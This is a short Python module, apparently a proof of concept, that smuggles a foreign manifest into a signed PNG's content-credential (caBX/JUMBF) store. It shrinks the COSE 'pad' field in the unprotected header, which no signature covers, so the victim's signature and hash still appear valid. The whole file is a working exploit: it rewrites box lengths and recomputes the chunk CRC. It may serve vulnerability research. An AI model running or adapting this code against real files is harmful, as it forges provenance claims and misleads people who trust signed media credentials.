"""A manifest put into somebody's signed file without their key, in the room of padding that no signature covers.

COSE's ``pad`` is in its unprotected header (RFC 9052, 3.1), and a manifest store is left out of the picture's hash
by its place and length alone. So bytes of padding can be exchanged for a whole manifest of one's own.
"""

from __future__ import annotations

import struct
import zlib

_PAD = b"\x63pad\x59"  # CBOR: the key, and bytes with a length of two bytes
_LEFT = 256  # bytes of padding that the smuggled manifest keeps
_HEAD = 8


def smuggled(victim: bytes, other: bytes) -> bytes:
    """Return the PNG ``victim`` with the last manifest of the PNG ``other`` in front of its own last one."""
    store, parcel = _store(victim), _last(_store(other))
    parcel = _without_padding(parcel, _padding(parcel) - _LEFT)
    changed = _without_padding(store, len(parcel))
    at = len(changed) - len(_last(changed))
    changed = struct.pack(">I", len(store)) + changed[4:at] + parcel + changed[at:]
    return victim.replace(_chunk(store), _chunk(changed))


def _store(png: bytes) -> bytes:
    at = png.index(b"caBX")
    (length,) = struct.unpack_from(">I", png, at - 4)
    return png[at + 4 : at + 4 + length]


def _chunk(store: bytes) -> bytes:
    return b"caBX" + store + struct.pack(">I", zlib.crc32(b"caBX" + store))


def _boxes(data: bytes, at: int, end: int) -> list[tuple[int, int]]:
    """Return where the boxes between two places begin and end (ISO 19566-5)."""
    found = []
    while at < end:
        (length,) = struct.unpack_from(">I", data, at)
        found.append((at, at + length))
        at += length
    return found


def _last(store: bytes) -> bytes:
    start, end = _boxes(store, _HEAD, len(store))[-1]
    return store[start:end]


def _padding(data: bytes) -> int:
    at = data.rindex(_PAD) + len(_PAD)
    return int.from_bytes(data[at : at + 2])


def _without_padding(box: bytes, count: int) -> bytes:
    """Return a box with ``count`` bytes less in its last padding, and all lengths around it put right."""
    changed = bytearray(box)
    pad = box.rindex(_PAD) + len(_PAD)
    struct.pack_into(">H", changed, pad, _padding(box) - count)
    inside = [(0, len(box))]
    while inside:
        start, end = inside[0]
        struct.pack_into(">I", changed, start, end - start - count)
        inner = _boxes(box, start + _HEAD, end) if box[start + 4 : start + 8] == b"jumb" else []
        inside = [(first, last) for first, last in inner if first < pad < last]
    del changed[pad + 2 : pad + 2 + count]
    return bytes(changed)
